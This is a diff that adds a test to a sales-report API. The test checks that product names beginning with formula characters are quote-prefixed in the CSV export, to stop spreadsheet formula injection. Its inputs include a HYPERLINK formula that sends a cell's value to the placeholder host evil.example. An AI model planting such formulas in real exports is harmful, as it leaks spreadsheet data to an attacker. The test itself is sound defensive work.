@@ -241,6 +241,21 @@ def test_sales_by_day_in_shop_time_json_and_csv(api: Api, monkeypatch: pytest.Mo
     assert by_accept.content == as_csv.content
 
 
+def test_a_name_a_spreadsheet_would_run_is_text_in_the_csv(api: Api) -> None:
+    """Product names reached the manager's CSV as they were: ``=HYPERLINK(…)`` ran in Excel."""
+    station = open_station(api)
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1+1)", "@cmd", "-2+3", "Maize"]
+    sale(station, "a", [(name, "1.00", 0, "1") for name in names])
+    admin = api.as_(Role.ADMIN)
+    as_csv = admin.get("/api/reports/sales?group_by=product&format=csv")
+    assert as_csv.status_code == 200, as_csv.text
+    lines = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig")), delimiter=";"))
+    labels = sorted(line[1] for line in lines[1:-1])
+    assert labels == sorted(["'" + name for name in names[:4]] + ["Maize"])
+    as_json = admin.get("/api/reports/sales?group_by=product").json()
+    assert sorted(g["label"] for g in as_json["groups"]) == sorted(names)  # only the CSV quotes
+
+
 def test_sales_by_hour_station_employee_method_tax_product(
     api: Api, monkeypatch: pytest.MonkeyPatch
 ) -> None:
